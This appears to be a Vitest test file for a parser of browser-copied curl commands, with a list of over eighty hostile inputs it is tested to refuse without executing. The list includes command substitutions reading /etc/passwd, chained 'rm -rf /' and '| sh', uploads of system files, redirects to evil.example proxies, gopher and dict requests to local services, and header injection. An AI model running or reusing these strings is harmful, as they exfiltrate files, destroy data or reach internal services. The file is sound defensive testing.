import childProcess from 'node:child_process';
import fs from 'node:fs';
import { afterEach, beforeEach, describe, expect, it, vi, type MockInstance } from 'vitest';
import { workFor } from '../../kernel/work/test-support/pool';
import { readCurl } from '.';
import { LONGEST_CURL, maskedValue } from './curl.rules';
import { takeApart } from './take-apart';

const SITE = 'https://www.xiaohongshu.com/api/sns/web/v1/feed';
const work = workFor();
const COOKIE = `-H 'cookie: a1=18f; web_session=0400'`;

describe('commands copied from browsers', () => {
  it.each([
    [
      'bash',
      `curl '${SITE}?a=1&b=2' \\\n  -H 'accept: application/json' \\\n  ${COOKIE} \\\n  -H 'user-agent: Mozilla/5.0 (X11)' \\\n  --compressed`,
    ],
    [
      '-b',
      `curl '${SITE}?a=1&b=2' -H 'accept: application/json' -H 'user-agent: Mozilla/5.0 (X11)' -b 'a1=18f; web_session=0400'`,
    ],
    [
      'a body',
      `curl --request POST '${SITE}?a=1&b=2' -H 'content-type: application/json' -H 'accept: application/json' -H 'user-agent: Mozilla/5.0 (X11)' ${COOKIE} --data-raw '{"q":"$(id)"}'`,
    ],
  ])('%s', (_, text) => {
    const taken = takeApart(text);
    expect(taken).toMatchObject({ url: `${SITE}?a=1&b=2` });
    const headers = 'fault' in taken ? [] : taken.headers;
    expect(new Map(headers.map(({ name, value }) => [name, value]))).toEqual(
      new Map([
        ['accept', 'application/json'],
        ['cookie', 'a1=18f; web_session=0400'],
        ['user-agent', 'Mozilla/5.0 (X11)'],
      ]),
    );
  });
  it('are parsed in another process, also refused ones', async () => {
    expect(await readCurl(`curl '${SITE}' ${COOKIE}`, work)).toMatchObject({ url: SITE });
    expect(await readCurl('rm -rf /', work)).toEqual({ fault: 'notCurl' });
  });
  it('report ignored parts, and commands for another command line', () => {
    expect(
      takeApart(`curl '${SITE}' -H 'content-type: application/json' -H 'Host: evil.example' ${COOKIE} --data-raw '{}'`),
    ).toMatchObject({ ignored: ['data', 'content-type', 'host'] });
    expect(takeApart(`curl ^"${SITE}^" ^\r\n  -H ^"cookie: a=1^"`)).toEqual({ fault: 'windows' });
    expect(takeApart(`Invoke-WebRequest -UseBasicParsing -Uri "${SITE}"`)).toEqual({ fault: 'windows' });
  });
  it('are limited in size before parsing', async () => {
    expect(await readCurl(`curl ${SITE} ${'x'.repeat(LONGEST_CURL)}`, work)).toEqual({ fault: 'tooLong' });
    expect(await readCurl(' \n ', work)).toEqual({ fault: 'empty' });
  });
});

/** Hostile texts: refused, or parsed to an address and headers, but never executed. */
const HOSTILE: readonly string[] = [
  // Substitutions.
  `curl ${SITE} -H "cookie: $(cat /etc/passwd)"`,
  `curl ${SITE} -H "cookie: \`id\`"`,
  'curl `id`',
  `curl "$(touch /tmp/owned)" ${COOKIE}`,
  `curl $HOME ${COOKIE}`,
  `curl ${SITE} -H "$HOME: 1"`,
  `curl ${SITE} -H "cookie: \${PATH}"`,
  `curl ${SITE}/$((1+1)) ${COOKIE}`,
  `curl <(id) ${COOKIE}`,
  `curl ${SITE} -H "cookie: \${x:=$(id)}"`,
  `curl ${SITE} -b "$(<​/etc/passwd)"`,
  `curl ${SITE} -H "cookie: $'$(id)'"`,
  // More than one command.
  `curl ${SITE} ${COOKIE}; rm -rf /`,
  `curl ${SITE} ${COOKIE} && id`,
  `curl ${SITE} ${COOKIE} || id`,
  `curl ${SITE} ${COOKIE} | sh`,
  `curl ${SITE} ${COOKIE} &`,
  `curl ${SITE} ${COOKIE}\nrm -rf /`,
  `(curl ${SITE} ${COOKIE})`,
  `{ curl ${SITE} ${COOKIE}; }`,
  `! curl ${SITE} ${COOKIE}`,
  `time curl ${SITE}`,
  `if curl ${SITE}; then id; fi`,
  `while :; do curl ${SITE}; done`,
  `eval "curl ${SITE}"`,
  `sudo curl ${SITE}`,
  `exec curl ${SITE}`,
  `f() { curl ${SITE}; }; f`,
  `curl ${SITE} --next ${SITE} ${COOKIE}`,
  `curl ${SITE} https://evil.example/ ${COOKIE}`,
  // Files.
  `curl ${SITE} -o /tmp/owned ${COOKIE}`,
  `curl ${SITE} -O ${COOKIE}`,
  `curl ${SITE} --output-dir /tmp -O ${COOKIE}`,
  `curl ${SITE} ${COOKIE} > /tmp/owned`,
  `curl ${SITE} ${COOKIE} >> ~/.bashrc`,
  `curl ${SITE} ${COOKIE} < /etc/passwd`,
  `curl ${SITE} ${COOKIE} 2>/tmp/owned`,
  `curl -K /tmp/evil ${SITE} ${COOKIE}`,
  `curl --config /tmp/evil`,
  `curl ${SITE} -d @/etc/passwd ${COOKIE}`,
  `curl ${SITE} --data-binary @/etc/passwd ${COOKIE}`,
  `curl ${SITE} --data-urlencode x@/etc/passwd ${COOKIE}`,
  `curl ${SITE} -F 'f=@/etc/passwd' ${COOKIE}`,
  `curl ${SITE} -F 'f=</etc/passwd' ${COOKIE}`,
  `curl ${SITE} -T /etc/passwd ${COOKIE}`,
  `curl ${SITE} -H @/etc/passwd`,
  `curl ${SITE} -b /etc/passwd`,
  `curl ${SITE} -c /tmp/owned ${COOKIE}`,
  `curl ${SITE} --cert /etc/ssl/key ${COOKIE}`,
  `curl ${SITE} --key /etc/ssl/key ${COOKIE}`,
  `curl ${SITE} --cacert /tmp/ca ${COOKIE}`,
  `curl ${SITE} --trace /tmp/owned ${COOKIE}`,
  `curl ${SITE} -D /tmp/owned ${COOKIE}`,
  `curl ${SITE} --netrc-file /etc/passwd ${COOKIE}`,
  `curl ${SITE} --libcurl /tmp/owned ${COOKIE}`,
  `curl ${SITE} --unix-socket /var/run/docker.sock ${COOKIE}`,
  `curl <<EOF\n${SITE}\nEOF`,
  `curl ${SITE} ${COOKIE} <<< "$(id)"`,
  `curl ${SITE} --json @/etc/passwd ${COOKIE}`,
  `curl ${SITE} --variable '%HOME' --expand-url '{{HOME}}' ${COOKIE}`,
  // Addresses other than web addresses.
  `curl file:///etc/passwd ${COOKIE}`,
  `curl gopher://127.0.0.1:6379/_x ${COOKIE}`,
  `curl ftp://a.example/ ${COOKIE}`,
  `curl dict://127.0.0.1:11211/ ${COOKIE}`,
  `curl ${SITE} -x http://evil.example:8080 ${COOKIE}`,
  `curl ${SITE} --socks5 evil.example ${COOKIE}`,
  `curl ${SITE} --resolve 'www.xiaohongshu.com:443:127.0.0.1' ${COOKIE}`,
  `curl ${SITE} --connect-to '::127.0.0.1:22' ${COOKIE}`,
  `curl ${SITE} --doh-url https://evil.example ${COOKIE}`,
  `curl ${SITE} --interface eth0 ${COOKIE}`,
  `curl https://www.xiaohongshu.com@evil.example/ ${COOKIE}`,
  `curl -u root:toor ${SITE} ${COOKIE}`,
  `curl 'https://[::1' ${COOKIE}`,
  `curl 'https://{a,b}.example' ${COOKIE}`,
  `curl 'javascript:alert(1)' ${COOKIE}`,
  `curl ${SITE} --preproxy http://evil.example ${COOKIE}`,
  // Headers with line breaks, and texts that are no headers.
  `curl ${SITE} -H $'cookie: a\\r\\nx-evil: 1'`,
  `curl ${SITE} -H $'cookie: a\\nx-evil: 1'`,
  `curl ${SITE} -H $'cookie: a\\0b'`,
  `curl ${SITE} -H 'bad name: 1' ${COOKIE}`,
  `curl ${SITE} -H ': 1' ${COOKIE}`,
  `curl ${SITE} -H 'cookie: a' -H 'Cookie: b'`,
  `curl ${SITE} -H 'host: evil.example'`,
  `curl ${SITE}`,
  'curl',
  'wget https://a.example',
  'hello',
  '{"url":"x"}',
  '\u0000',
  '🙂',
  `curl '${SITE}`,
  `curl "${SITE} ${COOKIE}`,
  `curl ^"${SITE}^" -H ^"cookie: a=1^"`,
  `curl --no-such-option ${SITE} ${COOKIE}`,
  `cu\\rl ${SITE} ${COOKIE}`,
  `c'u'rl ${SITE} ${COOKIE}`,
  `X=1 curl ${SITE} ${COOKIE}`,
  `curl ${"-H 'x: y' ".repeat(1_000)}${SITE}`,
  `curl ${'$('.repeat(500)}id${')'.repeat(500)}`,
  `curl ${`'"`.repeat(800)}`,
  `curl ${'{'.repeat(800)}`,
];

describe('hostile texts', () => {
  const touched: MockInstance[] = [];
  beforeEach(() => {
    for (const name of ['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork'] as const)
      touched.push(vi.spyOn(childProcess, name));
    for (const name of [
      'openSync',
      'readFileSync',
      'writeFileSync',
      'open',
      'readFile',
      'writeFile',
      'createReadStream',
      'createWriteStream',
    ] as const)
      touched.push(vi.spyOn(fs, name));
  });
  afterEach(() => {
    vi.restoreAllMocks();
    touched.length = 0;
  });

  it('are at least eighty', () => expect(new Set(HOSTILE).size).toBeGreaterThanOrEqual(80));
  it.each(HOSTILE.map((text) => [text.length > 90 ? `${text.slice(0, 90)}… (${text.length})` : text, text]))(
    '%s',
    (_, text) => {
      const taken = takeApart(text);
      for (const each of touched) expect(each).not.toHaveBeenCalled();
      if ('fault' in taken) return;
      // The result is plain: a web address and single-line headers without substitutions.
      expect(taken.url).toMatch(/^https?:\/\//);
      expect(new URL(taken.url).hostname).toBe('www.xiaohongshu.com');
      for (const { name, value } of taken.headers) {
        expect(name).toMatch(/^[a-z0-9-]+$/);
        expect(value).not.toMatch(/[\r\n\0]/);
        expect(value).not.toMatch(/\/etc\/passwd|\$\(|`/);
      }
    },
  );
  it('have no side effects', () => expect(fs.existsSync('/tmp/owned')).toBe(false));
});

describe('the masked value', () => {
  it('distinguishes values without revealing them', () => {
    expect([maskedValue('short'), maskedValue('0123456789abcdef'), maskedValue('web_session=040069b5c1')]).toEqual([
      '****',
      '****',
      'web_****b5c1',
    ]);
  });
});
